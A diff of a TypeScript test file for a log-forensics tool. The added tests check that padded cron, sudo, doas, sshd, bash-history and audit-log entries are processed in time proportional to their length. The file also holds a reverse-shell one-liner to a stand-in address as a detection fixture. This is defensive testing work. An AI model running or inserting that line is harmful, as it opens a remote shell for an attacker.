@@ -1,6 +1,7 @@
 /** Artefacts that are padded: what a bound left out is said as our bound, counts as unread, and is never called benign. */
 import { expect, test } from 'vitest';
 import { createTimeline, gatherSource, judgeArtifact, readArtifact } from '../../../analysis/forensics/index.ts';
+import { expectProportion } from '../../support/growth.ts';
 
 const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
 const judged = (name: string, text: string) => judgeArtifact(readArtifact(Buffer.from(text), name));
@@ -102,4 +103,17 @@ test('a timeline says which commands it does not hold, and counts them', async (
   const { summary, unread } = await gatherSource(createTimeline(), { name: '.bash_history', bytes: bytes() });
   expect(summary).toMatchObject({ items: 25_000, items_read: 20_000 });
   expect(unread).toHaveLength(1);
+});
+
+const at = 'Nov 28 10:00:00 web1';
+test.each<[string, string, string, (text: string) => string]>([
+  ['an entry of cron', 'auth.log', ' ', (text) => `${at} CRON[1]: (root) CMD (ls${text}x\n`],
+  ['an entry of cron', 'auth.log', ') ', (text) => `${at} CRON[1]: (root) CMD (ls${text}x\n`],
+  ['an entry of sudo', 'auth.log', ' COMMAND', (text) => `${at} sudo[1]: a : ${text}\n`],
+  ['an entry of doas', 'auth.log', ' as a from', (text) => `${at} doas[1]: a ran command ${text}\n`],
+  ['a login', 'auth.log', 'sshd[1]: ', (text) => `${at} ${text}\n`],
+  ['a line of a history', '.bash_history', 'A=b ', (text) => `${text}\n`],
+  ['a record of the audit', 'audit.log', 'msg=audit(', (text) => `type=EXECVE msg=audit(1700000000.123:4): ${text}\n`],
+])('%s in %s, padded with %j, costs time in proportion to its length (ATK-A9)', async (_, name, unit, textOf) => {
+  await expectProportion(unit, 16_000, (text) => judged(name, textOf(text)));
 });
